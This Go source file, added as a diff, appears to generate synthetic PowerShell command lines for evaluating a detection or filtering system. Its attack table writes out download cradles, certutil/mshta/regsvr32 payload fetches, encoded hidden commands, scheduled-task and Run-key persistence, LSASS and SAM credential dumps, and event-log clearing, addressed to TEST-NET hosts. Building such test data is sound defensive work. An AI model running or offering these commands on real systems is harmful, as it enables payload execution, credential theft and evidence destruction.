@@ -1,0 +1,561 @@
+package modality
+
+import (
+	"fmt"
+	"math/rand"
+	"regexp"
+	"strings"
+)
+
+func init() { Register(psModality{}) }
+
+// PowerShell is the name of the Windows/PowerShell command-line modality.
+const PowerShell = "powershell"
+
+// psModality scores Windows/PowerShell command lines: cmdlets, legacy
+// console tools, and the LOLBin/encoded-command attack surface. The
+// validator is a light top-level grammar (balanced quotes and parens,
+// non-empty pipeline segments, a command-shaped head token per segment) —
+// deliberately far short of a real PowerShell parser, but enough to reject
+// the corrupted records a collector ships and to extract the per-segment
+// command units the frequency filter counts.
+type psModality struct{}
+
+func (psModality) Name() string { return PowerShell }
+
+var (
+	// psCmdRe matches a command head token: cmdlet (Get-Process), console
+	// tool (ipconfig, certutil), or path-qualified program
+	// (C:\Windows\System32\cmd.exe).
+	psCmdRe = regexp.MustCompile(`^[A-Za-z][A-Za-z0-9._\\:/-]*$`)
+	// psVarRe matches a variable head token ($out, $env:TEMP).
+	psVarRe = regexp.MustCompile(`^\$[A-Za-z_][A-Za-z0-9_]*(:[A-Za-z0-9_]+)?$`)
+)
+
+// psBaseName strips a Windows or Unix directory prefix from a command word.
+func psBaseName(tok string) string {
+	if i := strings.LastIndexAny(tok, `\/`); i >= 0 {
+		return tok[i+1:]
+	}
+	return tok
+}
+
+// Parse validates and normalizes one PowerShell line. The canonical form is
+// the token stream re-joined with single spaces (quoted spans preserved
+// verbatim); command units are the lowercased, path-stripped head token of
+// each top-level pipeline/statement segment. PowerShell resolves commands
+// case-insensitively, so lowercasing folds Get-Process/get-process into one
+// frequency bucket.
+func (psModality) Parse(line string) (Record, error) {
+	segs, flat, err := psSplit(line)
+	if err != nil {
+		return Record{}, err
+	}
+	var occ []string
+	for _, seg := range segs {
+		name, err := psSegmentCommand(seg)
+		if err != nil {
+			return Record{}, err
+		}
+		if name != "" {
+			occ = append(occ, name)
+		}
+	}
+	seen := make(map[string]bool, len(occ))
+	var distinct []string
+	for _, name := range occ {
+		if !seen[name] {
+			seen[name] = true
+			distinct = append(distinct, name)
+		}
+	}
+	return Record{Line: strings.Join(flat, " "), Commands: distinct, Occurrences: occ}, nil
+}
+
+// psSplit tokenizes a line (quotes protect whitespace) and splits it into
+// top-level segments at | and ; outside quotes and parens. flat is the full
+// token stream including the separators, for normalization.
+func psSplit(line string) (segs [][]string, flat []string, err error) {
+	var (
+		cur      strings.Builder
+		seg      []string
+		inS, inD bool
+		depth    int
+	)
+	flushTok := func() {
+		if cur.Len() > 0 {
+			seg = append(seg, cur.String())
+			flat = append(flat, cur.String())
+			cur.Reset()
+		}
+	}
+	flushSeg := func(sep rune) error {
+		flushTok()
+		if len(seg) == 0 {
+			return fmt.Errorf("%w: empty pipeline segment", ErrUnparsable)
+		}
+		segs = append(segs, seg)
+		seg = nil
+		if sep != 0 {
+			flat = append(flat, string(sep))
+		}
+		return nil
+	}
+	for _, c := range line {
+		switch {
+		case inS:
+			cur.WriteRune(c)
+			if c == '\'' {
+				inS = false
+			}
+		case inD:
+			cur.WriteRune(c)
+			if c == '"' {
+				inD = false
+			}
+		case c == '\'':
+			inS = true
+			cur.WriteRune(c)
+		case c == '"':
+			inD = true
+			cur.WriteRune(c)
+		case c == '(':
+			depth++
+			cur.WriteRune(c)
+		case c == ')':
+			depth--
+			if depth < 0 {
+				return nil, nil, fmt.Errorf("%w: unbalanced parenthesis", ErrUnparsable)
+			}
+			cur.WriteRune(c)
+		case (c == '|' || c == ';') && depth == 0:
+			if err := flushSeg(c); err != nil {
+				return nil, nil, err
+			}
+		case c == ' ' || c == '\t':
+			flushTok()
+		default:
+			cur.WriteRune(c)
+		}
+	}
+	if inS || inD {
+		return nil, nil, fmt.Errorf("%w: unterminated quote", ErrUnparsable)
+	}
+	if depth != 0 {
+		return nil, nil, fmt.Errorf("%w: unbalanced parenthesis", ErrUnparsable)
+	}
+	if err := flushSeg(0); err != nil {
+		return nil, nil, err
+	}
+	return segs, flat, nil
+}
+
+// psSegmentCommand extracts the command unit of one segment ("" for
+// assignment-only segments), or rejects a head token that cannot start a
+// PowerShell statement.
+func psSegmentCommand(seg []string) (string, error) {
+	head := seg[0]
+	// Call operators: & program, . script.
+	if head == "&" || head == "." {
+		if len(seg) < 2 {
+			return "", fmt.Errorf("%w: dangling call operator", ErrUnparsable)
+		}
+		head = seg[1]
+	}
+	if strings.HasPrefix(head, "$") {
+		if !psVarRe.MatchString(head) {
+			return "", fmt.Errorf("%w: malformed variable %q", ErrUnparsable, head)
+		}
+		// $x = <command ...> counts the right-hand command; a bare variable
+		// reference or literal assignment contributes no unit.
+		if len(seg) >= 3 && seg[1] == "=" && psCmdRe.MatchString(seg[2]) {
+			return strings.ToLower(psBaseName(seg[2])), nil
+		}
+		return "", nil
+	}
+	if strings.HasPrefix(head, "'") || strings.HasPrefix(head, `"`) || strings.HasPrefix(head, "(") {
+		// Quoted or parenthesized expression statements are valid PowerShell
+		// but carry no command unit the filter can count.
+		return "", nil
+	}
+	if !psCmdRe.MatchString(head) {
+		return "", fmt.Errorf("%w: invalid command token %q", ErrUnparsable, head)
+	}
+	return strings.ToLower(psBaseName(head)), nil
+}
+
+// ---------------------------------------------------------------------------
+// Generator
+// ---------------------------------------------------------------------------
+
+// psNaming produces consistent random Windows identifiers.
+type psNaming struct {
+	rng *rand.Rand
+}
+
+var (
+	psDirWords  = []string{"Deploy", "Builds", "Logs", "Reports", "Scripts", "Backup", "Inventory", "Temp", "Staging", "Tools", "Shared", "Archive"}
+	psRoots     = []string{`C:\Users\svc_deploy`, `C:\ProgramData`, `D:\Work`, `C:\Users\Public`, `\\fs01.corp.internal\share`}
+	psFileStems = []string{"report", "inventory", "deploy", "audit", "metrics", "export", "setup", "rollout", "patch", "summary"}
+	psFileExts  = []string{".ps1", ".log", ".csv", ".txt", ".json", ".xml", ".zip", ".docx"}
+	psServices  = []string{"Spooler", "WinRM", "BITS", "wuauserv", "Dnscache", "EventLog", "W32Time", "LanmanServer"}
+	psProcs     = []string{"notepad", "explorer", "outlook", "chrome", "svchost", "pwsh", "teams", "excel"}
+	psHosts     = []string{"app01.corp.internal", "db02.corp.internal", "files.corp.internal", "build07.corp.internal", "print01.corp.internal"}
+)
+
+func (n *psNaming) dir() string {
+	root := psRoots[n.rng.Intn(len(psRoots))]
+	depth := 1 + n.rng.Intn(2)
+	parts := make([]string, depth)
+	for i := range parts {
+		parts[i] = psDirWords[n.rng.Intn(len(psDirWords))]
+	}
+	return root + `\` + strings.Join(parts, `\`)
+}
+
+func (n *psNaming) file() string {
+	return psFileStems[n.rng.Intn(len(psFileStems))] + psFileExts[n.rng.Intn(len(psFileExts))]
+}
+
+func (n *psNaming) path() string { return n.dir() + `\` + n.file() }
+
+func (n *psNaming) host() string { return psHosts[n.rng.Intn(len(psHosts))] }
+
+func (n *psNaming) ip() string {
+	// TEST-NET-3 keeps synthetic addresses obviously non-routable.
+	return fmt.Sprintf("203.0.113.%d", 1+n.rng.Intn(254))
+}
+
+func (n *psNaming) service() string { return psServices[n.rng.Intn(len(psServices))] }
+
+func (n *psNaming) proc() string { return psProcs[n.rng.Intn(len(psProcs))] }
+
+func (n *psNaming) pid() int { return 100 + n.rng.Intn(32000) }
+
+// psTemplate is one benign PowerShell generator with an occurrence weight,
+// shaping the same heavy-tailed command distribution the shell corpus has
+// (Fig. 2 analog for a Windows fleet).
+type psTemplate struct {
+	name   string
+	weight int
+	gen    func(r *rand.Rand, nm *psNaming) string
+}
+
+var psBenignTemplates = []psTemplate{
+	{"Set-Location", 70, func(r *rand.Rand, nm *psNaming) string { return "Set-Location " + nm.dir() }},
+	{"Get-ChildItem", 65, func(r *rand.Rand, nm *psNaming) string {
+		flags := []string{"", " -Recurse", " -Force", " -Filter *.log"}
+		return "Get-ChildItem " + nm.dir() + flags[r.Intn(len(flags))]
+	}},
+	{"Get-Content", 55, func(r *rand.Rand, nm *psNaming) string {
+		if r.Intn(3) == 0 {
+			return fmt.Sprintf("Get-Content %s -Tail %d", nm.path(), 10+r.Intn(190))
+		}
+		return "Get-Content " + nm.path()
+	}},
+	{"Write-Output", 45, func(r *rand.Rand, nm *psNaming) string {
+		msgs := []string{"done", "starting rollout", "ok", "deploy finished", "retrying..."}
+		return `Write-Output "` + msgs[r.Intn(len(msgs))] + `"`
+	}},
+	{"Get-Process", 45, func(r *rand.Rand, nm *psNaming) string {
+		opts := []string{
+			"Get-Process",
+			"Get-Process " + nm.proc(),
+			"Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
+		}
+		return opts[r.Intn(len(opts))]
+	}},
+	{"Select-String", 40, func(r *rand.Rand, nm *psNaming) string {
+		pats := []string{"error", "WARN", "timeout", "denied", "failed"}
+		return fmt.Sprintf("Select-String -Pattern '%s' -Path %s", pats[r.Intn(len(pats))], nm.path())
+	}},
+	{"Get-Service", 35, func(r *rand.Rand, nm *psNaming) string {
+		if r.Intn(2) == 0 {
+			return "Get-Service " + nm.service()
+		}
+		return "Get-Service | Where-Object Status -eq Running"
+	}},
+	{"Copy-Item", 30, func(r *rand.Rand, nm *psNaming) string {
+		return "Copy-Item " + nm.path() + " " + nm.dir()
+	}},
+	{"ipconfig", 25, func(r *rand.Rand, nm *psNaming) string {
+		opts := []string{"ipconfig", "ipconfig /all", "ipconfig /flushdns"}
+		return opts[r.Intn(len(opts))]
+	}},
+	{"Get-WinEvent", 22, func(r *rand.Rand, nm *psNaming) string {
+		logs := []string{"System", "Application", "Setup"}
+		return fmt.Sprintf("Get-WinEvent -LogName %s -MaxEvents %d", logs[r.Intn(len(logs))], 20+r.Intn(180))
+	}},
+	{"Test-Connection", 20, func(r *rand.Rand, nm *psNaming) string {
+		return "Test-Connection " + nm.host() + " -Count 2"
+	}},
+	{"Get-Date", 18, func(r *rand.Rand, nm *psNaming) string {
+		if r.Intn(2) == 0 {
+			return "Get-Date"
+		}
+		return "Get-Date -Format yyyy-MM-dd"
+	}},
+	{"Remove-Item", 15, func(r *rand.Rand, nm *psNaming) string {
+		if r.Intn(3) == 0 {
+			return "Remove-Item " + nm.dir() + `\* -Recurse -Force`
+		}
+		return "Remove-Item " + nm.path()
+	}},
+	{"Import-Module", 12, func(r *rand.Rand, nm *psNaming) string {
+		mods := []string{"ActiveDirectory", "Pester", "PSReadLine", "SqlServer"}
+		return "Import-Module " + mods[r.Intn(len(mods))]
+	}},
+	{"Invoke-WebRequest", 12, func(r *rand.Rand, nm *psNaming) string {
+		return "Invoke-WebRequest -Uri https://" + nm.host() + "/healthz -UseBasicParsing"
+	}},
+	{"Restart-Service", 10, func(r *rand.Rand, nm *psNaming) string {
+		return "Restart-Service " + nm.service()
+	}},
+	{"Move-Item", 9, func(r *rand.Rand, nm *psNaming) string {
+		return "Move-Item " + nm.path() + " " + nm.dir()
+	}},
+	{"New-Item", 8, func(r *rand.Rand, nm *psNaming) string {
+		return "New-Item -ItemType Directory -Path " + nm.dir()
+	}},
+	{"Test-Path", 8, func(r *rand.Rand, nm *psNaming) string { return "Test-Path " + nm.path() }},
+	{"tasklist", 7, func(r *rand.Rand, nm *psNaming) string {
+		if r.Intn(2) == 0 {
+			return "tasklist"
+		}
+		return "tasklist /fi \"imagename eq " + nm.proc() + ".exe\""
+	}},
+	{"Get-ItemProperty", 6, func(r *rand.Rand, nm *psNaming) string {
+		keys := []string{
+			`HKLM:\Software\Microsoft\Windows\CurrentVersion`,
+			`HKLM:\System\CurrentControlSet\Services\` + nm.service(),
+		}
+		return "Get-ItemProperty " + keys[r.Intn(len(keys))]
+	}},
+	{"robocopy", 6, func(r *rand.Rand, nm *psNaming) string {
+		return "robocopy " + nm.dir() + " " + nm.dir() + " /MIR /R:1"
+	}},
+	{"Stop-Process", 5, func(r *rand.Rand, nm *psNaming) string {
+		if r.Intn(2) == 0 {
+			return fmt.Sprintf("Stop-Process -Id %d", nm.pid())
+		}
+		return "Stop-Process -Name " + nm.proc() + " -Force"
+	}},
+	{"schtasks", 4, func(r *rand.Rand, nm *psNaming) string { return "schtasks /query /fo LIST" }},
+	{"Get-Help", 4, func(r *rand.Rand, nm *psNaming) string {
+		topics := []string{"Get-Process", "Get-ChildItem", "Select-String", "Copy-Item", "Get-WinEvent"}
+		return "Get-Help " + topics[r.Intn(len(topics))]
+	}},
+	{"Measure-Object", 3, func(r *rand.Rand, nm *psNaming) string {
+		return "Get-ChildItem " + nm.dir() + " | Measure-Object Length -Sum"
+	}},
+	{"hostname", 2, func(r *rand.Rand, nm *psNaming) string { return "hostname" }},
+}
+
+var psBenignTotalWeight = func() int {
+	t := 0
+	for _, b := range psBenignTemplates {
+		t += b.weight
+	}
+	return t
+}()
+
+func psBenignLine(r *rand.Rand, nm *psNaming) string {
+	w := r.Intn(psBenignTotalWeight)
+	for _, b := range psBenignTemplates {
+		if w < b.weight {
+			return b.gen(r, nm)
+		}
+		w -= b.weight
+	}
+	return "Get-Date"
+}
+
+func psWeirdLine(r *rand.Rand, nm *psNaming) string {
+	switch r.Intn(3) {
+	case 0:
+		// An admin bulk-renaming with a huge argument list.
+		n := 8 + r.Intn(18)
+		parts := make([]string, 0, n+2)
+		parts = append(parts, "Move-Item")
+		for i := 0; i < n; i++ {
+			parts = append(parts, fmt.Sprintf("%s.%04d.%x.bak", psFileStems[r.Intn(len(psFileStems))], r.Intn(10000), r.Int63()))
+		}
+		parts = append(parts, nm.dir())
+		return strings.Join(parts, " ")
+	case 1:
+		var b strings.Builder
+		b.WriteString(`Write-Output "`)
+		for i := 0; i < 6+r.Intn(8); i++ {
+			c := byte('a' + r.Intn(26))
+			b.WriteString(strings.Repeat(string(c), 3+r.Intn(12)))
+		}
+		b.WriteString(`"`)
+		return b.String()
+	default:
+		return fmt.Sprintf("Get-ChildItem %s -Recurse | Where-Object Length -gt %d | Sort-Object Length -Descending | Select-Object -First %d",
+			nm.dir(), 1000*(1+r.Intn(900)), 5+r.Intn(20))
+	}
+}
+
+// psTypoForms misspell common cmdlets; they pass the validator but carry a
+// rare command unit the frequency filter removes.
+var psTypoForms = map[string][]string{
+	"Get-Process":   {"Get-Procces", "Get-Proccess", "Gte-Process"},
+	"Get-ChildItem": {"Get-ChlidItem", "Get-Childtem"},
+	"Get-Content":   {"Get-Conent", "Get-Contnet"},
+	"Set-Location":  {"Set-Locaton", "Set-Loaction"},
+	"Copy-Item":     {"Copy-Itme", "Cpoy-Item"},
+	"Select-String": {"Selct-String", "Select-Stirng"},
+	"ipconfig":      {"ipcofnig", "ipconifg"},
+	"Remove-Item":   {"Remvoe-Item", "Remove-Itme"},
+}
+
+func psTypoLine(r *rand.Rand, nm *psNaming) string {
+	keys := []string{"Get-Process", "Get-ChildItem", "Get-Content", "Set-Location", "Copy-Item", "Select-String", "ipconfig", "Remove-Item"}
+	k := keys[r.Intn(len(keys))]
+	forms := psTypoForms[k]
+	typo := forms[r.Intn(len(forms))]
+	for _, b := range psBenignTemplates {
+		if b.name == k {
+			line := b.gen(r, nm)
+			return typo + strings.TrimPrefix(line, k)
+		}
+	}
+	return typo
+}
+
+func psGarbageLine(r *rand.Rand) string {
+	forms := []string{
+		`"unterminated transcript `,
+		"| Select-Object Name",
+		"Get-Process | | Stop-Process",
+		"((Get-Date",
+		"} catch {",
+		">> " + psFileStems[r.Intn(len(psFileStems))] + ".log",
+		"Get-Content 'no closing",
+		"; ; ;",
+		"%{ $_.Name",
+	}
+	return forms[r.Intn(len(forms))]
+}
+
+func psReconLines(r *rand.Rand) []string {
+	all := [][]string{
+		{"whoami /all", "net user"},
+		{"systeminfo"},
+		{"Get-ComputerInfo", "whoami"},
+		{"tasklist /v"},
+		{"net localgroup Administrators", "hostname"},
+	}
+	return all[r.Intn(len(all))]
+}
+
+// psAttackVariants: in-box variants are the loud, signature-matching forms a
+// rule-based EDR flags; out-of-box variants are evasions of the same intent
+// (chains of individually-plausible lines, alternate LOLBins, registry
+// instead of schtasks persistence).
+var psAttackVariants = []struct {
+	family string
+	inBox  bool
+	gen    func(r *rand.Rand, nm *psNaming) []string
+}{
+	// --- Family: encoded command execution ---
+	{"encoded_command", true, func(r *rand.Rand, nm *psNaming) []string {
+		return []string{"powershell.exe -NoP -NonI -W Hidden -EncodedCommand " + fakeB64(r)}
+	}},
+	{"encoded_command", false, func(r *rand.Rand, nm *psNaming) []string {
+		forms := []string{
+			"pwsh -nop -w hidden -e " + fakeB64(r),
+			"powershell -win hidden -enc " + fakeB64(r),
+		}
+		return []string{forms[r.Intn(len(forms))]}
+	}},
+
+	// --- Family: download cradles ---
+	{"download_cradle", true, func(r *rand.Rand, nm *psNaming) []string {
+		return []string{fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')", nm.ip())}
+	}},
+	{"download_cradle", false, func(r *rand.Rand, nm *psNaming) []string {
+		// Staged: fetch to a dropper path, then execute — each line looks
+		// almost routine, only the pair is suspicious.
+		drop := fmt.Sprintf(`C:\Users\Public\up%x.exe`, r.Intn(1<<16))
+		return []string{
+			fmt.Sprintf("Invoke-WebRequest -Uri http://%s/%x.dat -OutFile %s", nm.ip(), r.Intn(1<<16), drop),
+			"Start-Process " + drop,
+		}
+	}},
+
+	// --- Family: LOLBin abuse ---
+	{"lolbin", true, func(r *rand.Rand, nm *psNaming) []string {
+		return []string{fmt.Sprintf(`certutil -urlcache -split -f http://%s/p.exe C:\Users\Public\p.exe`, nm.ip())}
+	}},
+	{"lolbin", false, func(r *rand.Rand, nm *psNaming) []string {
+		forms := [][]string{
+			{fmt.Sprintf("regsvr32 /s /n /u /i:http://%s/x.sct scrobj.dll", nm.ip())},
+			{fmt.Sprintf("mshta http://%s/x.hta", nm.ip())},
+			{fmt.Sprintf("rundll32 url.dll,OpenURL http://%s/x", nm.ip())},
+		}
+		return forms[r.Intn(len(forms))]
+	}},
+
+	// --- Family: persistence ---
+	{"persistence", true, func(r *rand.Rand, nm *psNaming) []string {
+		return []string{fmt.Sprintf(`schtasks /create /tn WinUpdateCheck /tr "powershell -enc %s" /sc minute /mo 5`, fakeB64(r))}
+	}},
+	{"persistence", false, func(r *rand.Rand, nm *psNaming) []string {
+		return []string{fmt.Sprintf(`Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name Updater -Value C:\Users\Public\up%x.exe`, r.Intn(1<<16))}
+	}},
+
+	// --- Family: credential theft ---
+	{"cred_theft", true, func(r *rand.Rand, nm *psNaming) []string {
+		return []string{fmt.Sprintf(`rundll32 C:\Windows\System32\comsvcs.dll, MiniDump %d C:\Users\Public\lsass.dmp full`, nm.pid())}
+	}},
+	{"cred_theft", false, func(r *rand.Rand, nm *psNaming) []string {
+		return []string{
+			`reg save HKLM\SAM C:\Users\Public\sam.save`,
+			`reg save HKLM\SYSTEM C:\Users\Public\sys.save`,
+		}
+	}},
+
+	// --- Family: anti-forensics ---
+	{"anti_forensics", true, func(r *rand.Rand, nm *psNaming) []string {
+		return []string{"Remove-Item (Get-PSReadLineOption).HistorySavePath -Force"}
+	}},
+	{"anti_forensics", false, func(r *rand.Rand, nm *psNaming) []string {
+		forms := []string{"wevtutil cl Security", "Clear-EventLog -LogName Security"}
+		return []string{forms[r.Intn(len(forms))]}
+	}},
+}
+
+func (psModality) NewGen(rng *rand.Rand) Gen { return &psGen{nm: &psNaming{rng: rng}} }
+
+type psGen struct{ nm *psNaming }
+
+func (g *psGen) Benign(r *rand.Rand) string  { return psBenignLine(r, g.nm) }
+func (g *psGen) Weird(r *rand.Rand) string   { return psWeirdLine(r, g.nm) }
+func (g *psGen) Typo(r *rand.Rand) string    { return psTypoLine(r, g.nm) }
+func (g *psGen) Garbage(r *rand.Rand) string { return psGarbageLine(r) }
+func (g *psGen) Recon(r *rand.Rand) []string { return psReconLines(r) }
+
+func (g *psGen) Attack(r *rand.Rand, outOfBox bool) Attack {
+	candidates := make([]int, 0, len(psAttackVariants)/2)
+	for i, v := range psAttackVariants {
+		if v.inBox != outOfBox {
+			candidates = append(candidates, i)
+		}
+	}
+	v := psAttackVariants[candidates[r.Intn(len(candidates))]]
+	return Attack{Family: v.family, InBox: v.inBox, Lines: v.gen(r, g.nm)}
+}
+
+func (g *psGen) Families() []string {
+	seen := make(map[string]bool)
+	var out []string
+	for _, v := range psAttackVariants {
+		if !seen[v.family] {
+			seen[v.family] = true
+			out = append(out, v.family)
+		}
+	}
+	return out
+}
